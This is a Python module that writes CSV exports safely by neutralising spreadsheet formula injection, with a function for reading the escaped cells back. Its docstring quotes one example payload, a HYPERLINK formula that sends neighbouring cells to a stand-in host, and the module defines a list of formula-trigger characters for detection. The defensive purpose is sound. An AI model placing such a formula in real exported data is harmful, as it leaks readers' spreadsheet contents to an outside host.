"""The CSV files the site publishes, all written by one function, so every table is safe to open in a
spreadsheet program.

A spreadsheet runs a cell that starts like a formula: a published title such as
``=HYPERLINK("https://example.org/?"&A2, "Details")`` would send the reader's other cells away, and older
DDE payloads start programs. Following OWASP's "CSV Injection" guidance, a text cell that starts with
``=``, ``+``, ``-``, ``@``, a tab, a carriage return or a line feed (and NUL, which ASVS 5.0 adds) gets a
leading apostrophe: spreadsheets read it as "this cell is text" (Excel hides it), CSV readers see it as
one more character. Programs that need the exact text read the JSON files, which are never changed.

Numbers the site computes (a count of responses) are written as numbers: they are not text anyone
typed, no formula can hide in an int, and an apostrophe would turn them into text in a spreadsheet.
"""

from __future__ import annotations

import csv
import io

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")


def inert_cell(value):
    """The value as a cell no spreadsheet runs: text that starts like a formula gets an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def csv_table(header, rows) -> bytes:
    """A header and rows as UTF-8 CSV: RFC 4180 quoting and line ends, no byte-order mark (so every
    reader sees the first column's name as written), every cell passed through inert_cell."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([inert_cell(name) for name in header])
    writer.writerows([inert_cell(value) for value in row] for row in rows)
    return buffer.getvalue().encode("utf-8")


def written_text(cell: str) -> str:
    """What a cell written by inert_cell stands for: the text without the apostrophe inert_cell added.
    Files Konsulta writes for editors (a responses file from konsulta import-responses) are read back
    through this, so a proposal that starts with "=" or "-" keeps its text on the page and in data."""
    if cell.startswith("'") and cell[1:].startswith(FORMULA_TRIGGERS):
        return cell[1:]
    return cell
